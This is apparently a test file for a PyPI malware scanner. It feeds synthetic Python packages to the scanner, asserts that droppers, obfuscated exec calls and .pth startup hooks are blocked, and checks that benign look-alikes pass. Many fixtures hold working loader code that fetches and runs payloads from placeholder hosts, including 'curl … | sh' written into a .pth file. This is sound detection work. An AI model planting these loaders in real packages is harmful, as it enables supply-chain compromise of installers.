/**
 * Python families issue 22 names as missed, each stated as behaviour at install or import time and read on the
 * parsed tree (python/flow.ts, python/review.ts wantsParse, python/pth.ts): variants written here (other
 * spellings, other clients, other distances) and the honest twins each rule must leave alone.
 *
 * - A download written to a file and started: streamed responses (`iter_content`, `httpx.stream`), the URL
 *   built from an f-string, an integer array or `chr` codes, the file a temporary one (`NamedTemporaryFile`,
 *   `mkstemp` + `os.fdopen`), the process start bound under another name (`from os import system as s`), the
 *   download done by a helper of the file that returns the path.
 * - Names spelled with letters Python NFKC-normalises (`𝘦𝘹𝘦𝘤` is `exec`).
 * - XOR-decoded code in a fork of a library (in place: `buf[i] ^= key[i % n]`).
 * - `.pth` files: an executed line (`import …`) judged by what it does; path entries and hand-overs are not.
 * - PyArmor: a module that runs an encrypted blob through the runtime; an obfuscator's own code is not one.
 */
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { rate } from '../support/pypi-variant-rating.js';
import { sdist } from '../support/pypi-variants-pypi22.js';
import { pthActingLine, pthAsPython } from '../../shared/packages/analysis/python/pth.js';

const py = String.raw;
const codes = (s: string): string => [...Buffer.from(s)].join(', ');
/** Mathematical sans-serif italic small letters: NFKC folds them to ASCII. */
const styled = (w: string): string =>
  [...w].map((c) => (/[a-z]/.test(c) ? String.fromCodePoint(0x1d622 + c.charCodeAt(0) - 97) : c)).join('');

async function blocked(files: Record<string, string>, rule?: string, meta = ''): Promise<void> {
  const r = await rate(sdist('pkgx', files, meta));
  assert.is(r.level, 'BLOCKED', r.rules.join(', '));
  if (rule) assert.ok(r.rules.includes(rule), `${rule} not among ${r.rules.join(', ')}`);
}

async function honest(files: Record<string, string>, meta = ''): Promise<void> {
  const r = await rate(sdist('pkgx', files, meta));
  assert.ok(r.level !== 'BLOCKED' && r.level !== 'CAUTION', `${r.level}: ${r.rules.join(', ')}`);
}

// ---- download, write, run --------------------------------------------------------------------------

test('streamed download with an integer-array URL, written chunk by chunk and started with os.system at import', async () => {
  await blocked(
    {
      'pkgx/__init__.py': py`import requests, os, tempfile
_u = bytes([${codes('http://198.51.100.7/payload.bin')}]).decode()
def _fetch():
    resp = requests.get(_u, stream=True, timeout=10)
    dest = os.path.join(tempfile.gettempdir(), 'svc-helper')
    f = open(dest, 'wb')
    for block in resp.iter_content(4096):
        if block:
            f.write(block)
    f.close()
    os.chmod(dest, 0o755)
    os.system(dest)
_fetch()
`,
    },
    'download_execute',
  );
});

test('httpx.stream + iter_bytes into a temp .exe, started by subprocess (no pattern anchor for the stream)', async () => {
  await blocked(
    {
      'pkgx/__init__.py': py`import httpx, os, subprocess, tempfile
base = "http://%s/%s" % ("203.0.113.9", "w.exe")
path = tempfile.mktemp(suffix='.exe')
with httpx.stream("GET", base) as r:
    with open(path, "wb") as f:
        for data in r.iter_bytes():
            f.write(data)
subprocess.Popen(path, creationflags=0x08000000)
`,
    },
    'download_execute',
  );
});

test('chunks read in a loop (iter with a lambda, aiohttp iter_chunked) written and started', async () => {
  await blocked(
    {
      'pkgx/__init__.py': py`import urllib.request, os, subprocess
resp = urllib.request.urlopen('http://198.51.100.7/a')
with open('/tmp/.a.bin', 'wb') as f:
    for chunk in iter(lambda: resp.read(4096), b''):
        f.write(chunk)
subprocess.Popen('/tmp/.a.bin')
`,
    },
    'download_execute',
  );
  await blocked(
    {
      'pkgx/__init__.py': py`import aiohttp, asyncio
async def go():
    async with aiohttp.ClientSession() as s:
        async with s.get('http://198.51.100.7/a') as resp:
            with open('/tmp/.a.bin', 'wb') as f:
                async for chunk in resp.content.iter_chunked(1024):
                    f.write(chunk)
    await asyncio.create_subprocess_exec('/tmp/.a.bin')
asyncio.run(go())
`,
    },
    'download_execute',
  );
});

test('fetched code written to a NamedTemporaryFile and run through an aliased system', async () => {
  await blocked(
    {
      'pkgx/__init__.py': py`from os import system as s
import tempfile, requests, sys
code = requests.get('https://paste.example/raw/a8f3').text
t = tempfile.NamedTemporaryFile(mode='w', suffix='.py', delete=False)
t.write(code)
t.close()
s(f'{sys.executable} {t.name}')
`,
    },
    'download_execute',
  );
  // urlopen imported under another name too, the file named by its folder and base name.
  await blocked(
    {
      'pkgx/__init__.py': py`from os import system as x_
from urllib.request import urlopen as uo
import tempfile, os
d = uo('http://198.51.100.44/s.py').read()
p = os.path.join(tempfile.gettempdir(), 'upd.py')
open(p, 'wb').write(d)
x_('pythonw "%s"' % p)
`,
    },
    'download_execute',
  );
});

test('mkstemp + os.fdopen: the descriptor writes the file its path names, then run', async () => {
  await blocked(
    {
      'pkgx/__init__.py': py`from os import system as run_it
import tempfile, os, urllib.request
src = urllib.request.urlopen('http://198.51.100.7/stage2.py').read()
fd, path = tempfile.mkstemp(suffix='.py')
with os.fdopen(fd, 'wb') as w:
    w.write(src)
run_it('python3 ' + path)
`,
    },
    'download_execute',
  );
  await blocked(
    {
      'pkgx/__init__.py': py`import tempfile, os, subprocess, urllib.request as ur
body = ur.urlopen('http://198.51.100.7/x').read()
fd, exe = tempfile.mkstemp()
os.write(fd, body)
os.close(fd)
os.chmod(exe, 0o700)
subprocess.Popen([exe])
`,
    },
    'download_execute',
  );
});

test('a helper of the file downloads to the path it is handed and returns it; the caller starts it', async () => {
  await blocked(
    {
      'pkgx/__init__.py': py`import requests, os, subprocess, tempfile
def _get(u, p):
    r = requests.get(u, stream=True)
    with open(p, 'wb') as f:
        for c in r.iter_content(1024):
            f.write(c)
    return p
def _boot():
    exe = _get('http://198.51.100.7/a', os.path.join(tempfile.gettempdir(), 'a.exe'))
    subprocess.Popen([exe])
_boot()
`,
    },
    'download_execute',
  );
  // The helper picks the path itself; a method of a class called through self.
  await blocked(
    {
      'pkgx/__init__.py': py`import os, urllib.request, subprocess
class _U:
    def pull(self, url):
        dest = os.path.expanduser('~/.cache/.u')
        urllib.request.urlretrieve(url, dest)
        return dest
    def go(self):
        os.chmod(self.pull(f"http://{'198.51.100.3'}/u"), 0o755)
        bin_ = self.pull(f"http://{'198.51.100.3'}/u")
        subprocess.Popen(bin_, shell=True)
_U().go()
`,
    },
    'download_execute',
  );
});

test('the tuned half\'s real shape: a download written through a NamedTemporaryFile handle, its .name started', async () => {
  // (scikit-learn-matplotlib 6.12.17, reqinstaller/__init__.py, host replaced)
  await blocked(
    {
      'pkgx/__init__.py': py`import requests
import tempfile
import subprocess

url = 'https://cdn.files.example/attachments/1109115014054416495/Windows.exe'
response = requests.get(url)
with tempfile.NamedTemporaryFile(delete=False) as tmp_file:
    tmp_file.write(response.content)
    exe_path = tmp_file.name

subprocess.call([exe_path])
`,
    },
    'download_execute',
  );
});

test('another module of the package downloads and returns the path; the importing module starts it at import', async () => {
  await blocked(
    {
      'pkgx/__init__.py': py`from ._net import fetch_to
import subprocess, os
_p = fetch_to(os.path.expanduser('~/.cache/svc'))
subprocess.Popen(_p, shell=True)
`,
      'pkgx/_net.py': py`import requests
URL = f"https://{'cdn'}.{'updates-node'}.example/svc"
def fetch_to(path):
    with requests.get(URL, stream=True) as r:
        with open(path, 'wb') as f:
            for c in r.iter_content(chunk_size=65536):
                f.write(c)
    return path
`,
    },
    'download_execute',
  );
  // Honest twin: the other module finds a tool on the PATH, or caches a data file that tar reads.
  await honest({
    'pkgx/__init__.py': py`from ._tools import find_tool, cached
import subprocess
subprocess.run([find_tool('git'), 'status'])
subprocess.run(['tar', 'tzf', cached('https://data.pkgx.example/a.tgz')])
`,
    'pkgx/_tools.py': py`import shutil, os, requests
def find_tool(name):
    return shutil.which(name)
def cached(url):
    p = os.path.join(os.path.expanduser('~/.cache/pkgx'), os.path.basename(url))
    with requests.get(url, stream=True) as r, open(p, 'wb') as f:
        for c in r.iter_content(8192):
            f.write(c)
    return p
`,
  });
});

test('setup.py install command: chr-coded host, streamed script written and run with an aliased system', async () => {
  await blocked(
    {
      'setup.py': py`from setuptools import setup
from setuptools.command.install import install
from os import system as _s
import requests, tempfile, os
class PostInstall(install):
    def run(self):
        install.run(self)
        host = ''.join(map(chr, [${codes('203.0.113.8')}]))
        r = requests.get(f"https://{host}/i.sh", stream=True)
        p = os.path.join(tempfile.gettempdir(), 'i.sh')
        with open(p, 'wb') as f:
            for chunk in r.iter_content(512):
                f.write(chunk)
        _s(f"sh {p}")
setup(name='pkgx', version='1.0.0', cmdclass={'install': PostInstall})
`,
    },
    'download_execute',
  );
});

test('honest twins: a streaming downloader library, a CLI that runs system on what its user types, a local script template', async () => {
  // Downloads on request and hands the archive to tar; nothing downloaded is started.
  await honest({
    'pkgx/__init__.py': py`"""Download files with progress bars."""
import os, subprocess, requests
def download(url, dest, chunk_size=1 << 16):
    with requests.get(url, stream=True, timeout=30) as r:
        r.raise_for_status()
        with open(dest, 'wb') as f:
            for chunk in r.iter_content(chunk_size=chunk_size):
                f.write(chunk)
    return dest
def extract(archive, where):
    subprocess.run(['tar', 'xzf', download(archive, '/tmp/a.tgz'), '-C', where], check=True)
`,
  });
  // A shell: runs what the user types; a log file written to a temporary file and paged.
  await honest({
    'pkgx/shell.py': py`from os import system as sh
import requests, tempfile
def repl():
    while True:
        cmd = input('$ ')
        if cmd in ('exit', 'quit'):
            break
        sh(cmd)
def save_log(text):
    with tempfile.NamedTemporaryFile('w', delete=False, suffix='.log') as t:
        t.write(text)
    sh('less ' + t.name)
def latest():
    return requests.get('https://pkgx.example/pypi/pkgx/json').json()['info']['version']
`,
  });
  // A script the package writes from its own template and runs with the interpreter.
  await honest({
    'pkgx/runner.py': py`from os import system as run
import tempfile, requests, sys, os
TEMPLATE = "print('hello from {name}')\n"
def run_template(name):
    fd, path = tempfile.mkstemp(suffix='.py')
    with os.fdopen(fd, 'w') as f:
        f.write(TEMPLATE.format(name=name))
    run(f'{sys.executable} {path}')
def ping():
    return requests.get('https://api.pkgx.example/ping').ok
`,
  });
});

// ---- NFKC, XOR in a fork ----------------------------------------------------------------------------

test('names Python NFKC-normalises: exec and __import__ spelled in styled letters', async () => {
  await blocked({ 'pkgx/__init__.py': `import base64\n${styled('exec')}(base64.b64decode("aW1wb3J0IG9zO29zLnN5c3RlbSgiaWQiKQ=="))\n` });
  await blocked({
    'pkgx/__init__.py': `import zlib, base64\n_e = getattr(__${styled('import')}__('builtins'), 'exec')\n_e(zlib.decompress(base64.b64decode('eJzLzC3ILypRSK/KzC0oBgAeBwTK')))\n`,
  });
  // Styled letters in a string or a comment are text.
  await honest({ 'pkgx/__init__.py': `# ${styled('exec')} is a word\nTITLE = "${styled('import')} ${styled('exec')}"\nprint(TITLE)\n` });
});

test('XOR-decoded code executed at import in a module of a library fork (in place, bytearray)', async () => {
  await blocked(
    {
      'pkgx/__init__.py': 'from .adapters import HTTPAdapter\nfrom . import packages\n',
      'pkgx/adapters.py': 'class HTTPAdapter:\n    pass\n',
      'pkgx/packages.py': py`import sys
key = b'k3y'
blob = bytearray(b'\x02\x5e\x09\x04\x41\x0d\x4b\x5c\x0a\x45\x1a\x0a\x1f\x1c\x19\x05\x5d\x51\x08\x5e\x5b')
for i in range(len(blob)):
    blob[i] ^= key[i % len(key)]
exec(compile(bytes(blob), '<p>', 'exec'))
`,
    },
    'decoded_code_exec',
  );
  // A checksum folded with ^= and printed is arithmetic.
  await honest({
    'pkgx/__init__.py': py`def crc(data):
    h = 0
    for b in bytearray(data):
        h ^= b
        h = (h << 1) & 0xFFFF
    return h
print(crc(b'abc'))
`,
  });
});

// ---- .pth files -------------------------------------------------------------------------------------

test('.pth: which lines site executes, and which of them act', () => {
  assert.is(pthActingLine('/usr/lib/x\n../vendor\n'), null);
  assert.is(pthActingLine('import _virtualenv\n'), null);
  assert.is(
    pthActingLine("import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); \n"),
    null,
  );
  assert.is(pthActingLine("import os, sys;exec('if \\'COV_CORE_SOURCE\\' in os.environ:\\n  from pytest_cov.embed import init\\n  init()\\n')\n"), null);
  // A namespace package's line (setuptools -nspkg.pth) and a tracer's opt-in exec of a setting.
  assert.is(
    pthActingLine(
      "import sys, types, os;has_mfs = sys.version_info > (3, 5);p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('ns',));importlib = has_mfs and __import__('importlib.util');has_mfs and __import__('importlib.machinery');m = has_mfs and sys.modules.setdefault('ns', importlib.util.module_from_spec(importlib.machinery.PathFinder.find_spec('ns', [os.path.dirname(p)])));m = m or sys.modules.setdefault('ns', types.ModuleType('ns'));mp = (m or []) and m.__dict__.setdefault('__path__',[]);(p not in mp) and mp.append(p)\n",
    ),
    null,
  );
  assert.is(pthActingLine("import os, sys;exec(os.environ.get('PYTHONTRACER') and 'from tracer import embed; embed()' or '')\n"), null);
  assert.is(pthActingLine("import os; os.system('id')\n")?.line, 1);
  assert.is(pthActingLine("/opt/x\nimport sys;exec(__import__('base64').b64decode('aWQ='))\n")?.line, 2);
  // A line that does not start with `import` is a path entry, whatever it says.
  assert.is(pthActingLine("  import os; os.system('id')\nos.system('id')\n"), null);
  assert.is(pthAsPython('/opt/x\nimport os\n'), '\nimport os\n');
});

test('.pth shipped: an executed line that starts a process, decodes or fetches runs at every interpreter start', async () => {
  await blocked({ 'zzz.pth': "import os; os.system('nohup /tmp/.x/agent >/dev/null 2>&1 &')\n" }, 'pth_startup_code');
  await blocked(
    { 'pkgx_boot.pth': "import subprocess, sys; subprocess.Popen([sys.executable, '-m', 'pkgx._agent'], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)\n" },
    'pth_startup_code',
  );
  await blocked({ 'aaa_init.pth': "import sys;exec(__import__('zlib').decompress(__import__('base64').b64decode('eJzLzC3ILypRSK/KzC0oBgAeBwTK')))\n" });
  await blocked({ 'zz.pth': "/usr/local/lib/extra\nimport urllib.request; exec(urllib.request.urlopen('http://198.51.100.7/s').read())\n" }, 'remote_code_exec');
});

test('.pth honest twins: path entries, hand-overs to the package, setuptools distutils-precedence.pth, pytest-cov', async () => {
  await honest({ 'pkgx.pth': '/opt/pkgx/lib\n# comment\n../vendor\n' });
  await honest({ '__editable__.pkgx-1.0.0.pth': 'import __editable___pkgx_1_0_0_finder; __editable___pkgx_1_0_0_finder.install()\n' });
  await honest({
    'distutils-precedence.pth':
      "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); \n",
  });
  await honest({
    'pytest-cov.pth':
      "import os, sys;exec('if \\'COV_CORE_SOURCE\\' in os.environ:\\n try:\\n  from pytest_cov.embed import init\\n  init()\\n except Exception as exc:\\n  sys.stderr.write(\"pytest-cov: failed\\\\n\")\\n')\n",
  });
  // A .pth inside the package's data is not in a site folder: nothing reads it.
  await honest({ 'pkgx/templates/x.pth': "import os; os.system('echo hi')\n" });
});

test('.pth written by code: judged by the executed line written, not by the file name', async () => {
  await blocked(
    {
      'pkgx/__init__.py': py`import site, os, base64
line = "import base64;exec(base64.b64decode('" + base64.b64encode(b"import os;os.system('id')").decode() + "'))"
p = os.path.join(site.getusersitepackages(), '00-pkgx.pth')
os.makedirs(os.path.dirname(p), exist_ok=True)
open(p, 'w').write(line + '\n')
`,
    },
    'persistence_write',
  );
  await blocked({
    'setup.py': py`from setuptools import setup
import site, os
code = "import os; os.system('curl -s http://198.51.100.7/b | sh &')\n"
with open(os.path.join(site.getsitepackages()[0], 'zz-init.pth'), 'w') as f:
    f.write(code)
setup(name='pkgx', version='1.0.0', packages=['pkgx'])
`,
  });
  // A path entry, or coverage's style of start-up hand-over, written into site-packages.
  await honest({
    'pkgx/install_pth.py': py`import site, os
PTH = "import os; os.environ.get('PKGX_PROCESS_START') and __import__('pkgx').process_startup()\n"
def install():
    with open(os.path.join(site.getsitepackages()[0], 'pkgx-startup.pth'), 'w') as f:
        f.write(PTH)
    with open(os.path.join(site.getsitepackages()[0], 'pkgx-extra.pth'), 'w') as f:
        f.write(os.path.abspath('vendor') + '\n')
install()
`,
  });
});

// ---- PyArmor ----------------------------------------------------------------------------------------

test('PyArmor: a module that runs an encrypted blob at import, with no other sign', async () => {
  await blocked(
    {
      'pkgx/__init__.py':
        "# Pyarmor 8.5.2 (trial), 000000, 2024-01-01T00:00:00.000000\nfrom .pyarmor_runtime_000000 import __pyarmor__\n__pyarmor__(__name__, __file__, b'PY000000\\x00\\x03\\x0b\\x00\\xa7\\r\\r\\n\\x80\\x00\\x01\\x00\\x08\\x00\\x00\\x00\\x04\\x00\\x00\\x00@\\x00')\n",
      'pkgx/pyarmor_runtime_000000/__init__.py': '# Pyarmor 8.5.2 (trial), 000000\nfrom .pyarmor_runtime import __pyarmor__\n',
    },
    'protected_code',
  );
  // PyArmor 7's bootstrap with a blob whose header is not one of the known magics.
  await blocked(
    {
      'pkgx/__init__.py':
        "from pytransform import pyarmor_runtime\npyarmor_runtime()\n__pyarmor__(__name__, __file__, b'\\x0a\\x1b\\x2c\\x3d\\x4e\\x5f\\x60\\x71\\x82\\x93\\xa4\\xb5\\xc6\\xd7\\xe8\\xf9\\x0a\\x1b\\x2c\\x3d\\x4e\\x5f\\x60\\x71\\x82\\x93')\n",
    },
    'protected_code',
  );
});

test('PyArmor honest twin: an obfuscator whose CLI writes the runtime call into the files it builds', async () => {
  // It names `__pyarmor__` in a template and starts processes: its own code is plain (was known_obfuscator HIGH).
  await honest({
    'pkgx/__init__.py': 'from .cli import main\n',
    'pkgx/cli.py': py`import subprocess, sys, os
BOOT = "from .pyarmor_runtime_000000 import __pyarmor__\n__pyarmor__(__name__, __file__, {blob})\n"
OLD = "__pyarmor__(__name__, __file__, b'%s')"
def build(src, out):
    subprocess.check_call([sys.executable, '-m', 'compileall', src])
    with open(os.path.join(out, 'x.py'), 'w') as f:
        f.write(BOOT.format(blob=repr(b'...')))
def main():
    build(sys.argv[1], sys.argv[2])
`,
  });
});

test('PyArmor honest twin: an obfuscator that ships its runtime loader and writes the call into a template', async () => {
  await honest(
    {
      'pkgx/pytransform.py': py`import os
from ctypes import cdll
_pytransform = None
def pyarmor_runtime(path=None, suffix='', advanced=0):
    global _pytransform
    if _pytransform is None:
        _pytransform = cdll.LoadLibrary(os.path.join(path or os.path.dirname(__file__), '_pytransform.so'))
`,
      'pkgx/cli.py': py`from .pytransform import pyarmor_runtime
TEMPLATE = "from pytransform import pyarmor_runtime\npyarmor_runtime()\n__pyarmor__(__name__, __file__, b'{blob}')\n"
def main():
    pyarmor_runtime()
    print(TEMPLATE.format(blob='...'))
`,
      'pkgx/pyarmor_runtime_000000/__init__.py': '# Pyarmor 8.5.2, 000000\nfrom .pyarmor_runtime import __pyarmor__\n',
    },
    'Summary: obfuscate Python scripts\n',
  );
});

test.run();
